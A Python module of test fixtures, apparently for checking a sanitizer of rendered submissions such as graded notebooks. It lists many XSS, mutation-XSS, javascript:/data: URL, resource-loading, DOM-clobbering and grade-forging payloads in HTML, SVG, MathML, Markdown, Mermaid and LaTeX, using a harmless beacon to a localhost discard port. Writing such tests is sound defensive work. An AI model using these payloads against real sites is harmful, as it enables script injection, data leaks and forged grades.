"""Markup that would act where a submission is read: run code, load something, lead away, or forge.

``ACT`` is code that tells that it ran; whatever loads or leads away names :data:`THEIRS`.
"""

# ruff: noqa: E501 - an attack is one line
from __future__ import annotations

import base64

THEIRS = "http://127.0.0.1:9/theirs"
ACT = f"document.title='theirs';alert('theirs');new Image().src='{THEIRS}-script'"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ACT}"><script>{ACT}</script></svg>'
_ENCODED = base64.b64encode(f"<script>{ACT}</script>".encode()).decode()
_ENCODED_SVG = base64.b64encode(_SVG.encode()).decode()
_ENTITIES = "".join(f"&#{ord(letter)};" for letter in "javascript:alert(1)")

HTML = (
    f'<svg><a xlink:href="javascript:{ACT}" href="javascript:{ACT}"><text y="20">7</text></a></svg>',
    f'<svg><animate attributeName="href" values="javascript:{ACT}" onbegin="{ACT}"/></svg>',
    f'<svg><set attributeName="onmouseover" to="{ACT}"/></svg>',
    f'<svg><use href="data:image/svg+xml;base64,{_ENCODED_SVG}#x"/></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>{ACT}</script>"></iframe></foreignObject></svg>',
    f'<svg><filter><feImage href="{THEIRS}-feimage"/></filter></svg>',
    f'<math href="javascript:{ACT}"><mi>7</mi></math>',
    f'<math><maction actiontype="statusline#{THEIRS}" xlink:href="javascript:{ACT}">7</maction></math>',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror="{ACT}"></annotation-xml></math>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={ACT}&gt;">',
    f"<svg></p><style><a id=\"</style><img src=x onerror='{ACT}'>\"></style></svg>",
    f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{ACT}">',
    f'<select><style></select><img src=x onerror="{ACT}"></style>',
    f'<!--><img src=x onerror="{ACT}">-->',
    f'<!-- --!><img src=x onerror="{ACT}"> -->',
    f'<![CDATA[><img src=x onerror="{ACT}">]]>',
    f'<?xml version="1.0"?><img src=x onerror="{ACT}">',
    f'<\nimg src=x onerror="{ACT}"><img\x0csrc=x\x0conerror="{ACT}"><img/src=x/onerror="{ACT}">',
    f"<scr\0ipt>{ACT}</scr\0ipt><\0script>{ACT}</script>",
    f'<template><script>{ACT}</script></template><xmp><img src=x onerror="{ACT}"></xmp><plaintext>',
    f'<object type="text/html" data="data:text/html;base64,{_ENCODED}"></object>',
    f'<iframe sandbox="allow-scripts allow-top-navigation" src="data:text/html;base64,{_ENCODED}">',
    f'<form id="f"></form><button form="f" formaction="javascript:{ACT}">7</button>',
    f'<form><input type="image" src="{THEIRS}-input" formaction="{THEIRS}-formaction"></form>',
    f'<img srcset="{THEIRS}-srcset 1x"><picture><source srcset="{THEIRS}-source"><img></picture>',
    f'<audio autoplay src="{THEIRS}-audio"></audio><video><track src="{THEIRS}-track"></video>',
    f'<link rel="prefetch" href="{THEIRS}-prefetch"><link rel="prerender" href="{THEIRS}-prerender">',
    f'<link rel="modulepreload" href="{THEIRS}-module"><link rel="icon" href="{THEIRS}-icon">',
    f'<script type="module">import "{THEIRS}-import"</script><script type="importmap">{{}}</script>',
    f'<script type="speculationrules">{{"prefetch":[{{"urls":["{THEIRS}-rules"]}}]}}</script>',
    f"<style>@font-face{{font-family:f;src:url({THEIRS}-font)}} *{{font-family:f}}</style>",
    f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{ACT}">7</p>',
    f'<p style="background-image:image-set(url({THEIRS}-set) 1x);cursor:url({THEIRS}-cursor),auto">',
    f'<button popovertarget="p">7</button><p id="p" popover onbeforetoggle="{ACT}">7</p>',
    f'<div contenteditable autofocus onfocus="{ACT}">7</div><p tabindex=1 onfocusin="{ACT}">7</p>',
    f'<marquee onstart="{ACT}">7</marquee><input accesskey=x onclick="{ACT}"><body onload="{ACT}">',
    f'<a ping="{THEIRS}-ping" href="{THEIRS}-a">7</a><map><area href="javascript:{ACT}"></map>',
    f'<a href="{_ENTITIES}">7</a><a href="java\tscript:alert(1)">7</a><a href=" &#1;javascript:alert(1)">',
    '<meta http-equiv="set-cookie" content="theirs=1"><meta name="referrer" content="unsafe-url">',
    f'<base target="_blank" href="{THEIRS}/"><a id="location" name="document">7</a>',
    '<form name="getElementById"></form><img name="querySelector"><input id="MathJax">',
    '<input name="score" value="7"><div class="verdict"><b>7 of 7 points</b></div>',
    '<div class="output_html rendered_html">over</div><style>.verdict *{font-size:0}</style>',
)
"""Elements of HTML, SVG and MathML, what a repair of broken ones turns into them, and CSS."""

MARKDOWN = (
    "xwww.127.0.0.1:9/theirs _www.127.0.0.1:9/theirs 7www.127.0.0.1:9/theirs",
    "a mail to theirs+@theirs-host.org, the.irs-@a-b.theirs.org, theirs.@theirs.org",
    f"[7](<javascript:{ACT}>) [7]( javascript:alert(1) 'title') [7](\tjavascript:alert(1))",
    f"[7]({_ENTITIES}) [7](java&Tab;script:alert(1)) [7](javascript&colon;alert(1))",
    "[7][theirs] [theirs][] [theirs]\n\n[theirs]:\n  javascript:alert(1)\n  'title'",
    f"[7][far]\n\n> [far]: {THEIRS}-quoted\n\n- [far]: {THEIRS}-listed",
    f"7[^1]\n\n[^1]: {THEIRS}-footnote <img src=x onerror={ACT}>",
    f"![7](data:image/svg+xml;base64,{_ENCODED_SVG}) ![7](data:text/html;base64,{_ENCODED})",
    f"![7](data:image/png;base64,{_ENCODED}) ![7](data:image/png;base64,{_ENCODED_SVG})",
    f'![7](attachment:evil.png "onerror={ACT}") ![7](attachment:../../theirs.png)',
    f"[![7]({THEIRS}-inner)]({THEIRS}-outer) [a [b](c)](javascript:alert(1))",
    "<mailto:theirs@theirs.org> <javascript:alert(1)> <data:text/html,theirs> <ftp://theirs.org>",
    "ftp://theirs.org/theirs xmpp:theirs@theirs.org/7 file:///theirs vscode://theirs/run",
    f'~~~mermaid\ngraph TD; A-->B; click A href "javascript:{ACT}"\n~~~',
    f"``` mermaid\n%%{{init: {{'securityLevel': 'loose'}}}}%%\ngraph TD; A[<img src=x onerror={ACT}>]\n```",
    f"```{{=html}}\n<script>{ACT}</script>\n```\n\n:::{{raw}} html\n<script>{ACT}</script>\n:::",
    f'```vega-lite\n{{"data": {{"url": "{THEIRS}-vega"}}}}\n```\n\n```svg\n{_SVG}\n```',
    f"| a | <img src=x onerror={ACT}> |\n|---|---|\n| [7](javascript:alert(1)) | {THEIRS}-cell |",
    f"# <img src=x onerror={ACT}> {{#id onclick={ACT}}}\n\ntext {{: onclick={ACT} }}",
    f"$\\url{{{THEIRS}}} \\mmlToken{{mi}}[href=javascript:{ACT}]{{7}} \\\\href{{{THEIRS}}}{{7}}$",
    f"$\\unicode{{60}}img \\bbox[background:url({THEIRS}-bbox)]{{7}} \\htmlData{{x=1}}{{7}}$",
    f"$$\\begin{{html}}<img src=x onerror={ACT}>\\end{{html}}$$ $\\require{{html}}\\href{{{THEIRS}}}7$",
    f"$\\text{{<img src=x onerror={ACT}>}}$ \\(\\href{{{THEIRS}-paren}}{{7}}\\) \\[\\href{{{THEIRS}}}7\\]",
    "$\\let\\frac\\sqrt \\renewcommand{\\sqrt}{forged} \\catcode`\\<=13$",
    f"\\<script\\>{ACT}\\</script\\> &lt;script&gt;{ACT}&lt;/script&gt; \uff1cscript\uff1e",
    f"{{% include theirs %}} {{{{ theirs }}}} [[theirs]] ![[{THEIRS}-wiki]] !include {THEIRS}",
)
"""Texts in Markdown and in formulas."""

BUNDLES = {
    "application/vnd.jupyter.widget-view+json": {"model_id": "theirs", "version_major": 2},
    "application/vnd.jupyter.widget-state+json": {"state": {"theirs": {"model_name": "HTMLModel"}}},
    "application/vnd.bokehjs_exec.v0+json": "theirs",
    "application/vnd.bokehjs_load.v0+json": ACT,
    "application/vnd.holoviews_exec.v0+json": ACT,
    "application/vnd.vegalite.v5+json": {"data": {"url": f"{THEIRS}-vegalite"}, "mark": "bar"},
    "application/vnd.dataresource+json": {"schema": {"fields": []}, "data": []},
    "application/vnd.code.notebook.error": {"name": "x", "message": "x", "stack": THEIRS},
    "application/json": {"html": HTML[0], "url": THEIRS},
    "application/geo+json": {"type": "Point", "coordinates": [0, 0]},
    "application/xml": _SVG,
    "application/x-latex": f"$\\href{{{THEIRS}}}{{7}}$",
    "text/html": HTML[9],
    "text/x-html": HTML[9],
    "text/markdown": MARKDOWN[0],
    "text/latex": MARKDOWN[19],
    "text/javascript": ACT,
    "text/vnd.mermaid": MARKDOWN[13],
    "text/plain": f"see xwww.127.0.0.1:9/theirs or _data:text/html,theirs or {THEIRS}",
    "image/svg+xml": _SVG,
    "image/gif": _ENCODED_SVG,
    "image/webp": _ENCODED_SVG,
    "image/png": _ENCODED_SVG,
    "image/jpeg": _ENCODED,
    "video/mp4": _ENCODED,
}
"""What may be displayed, by its kind."""
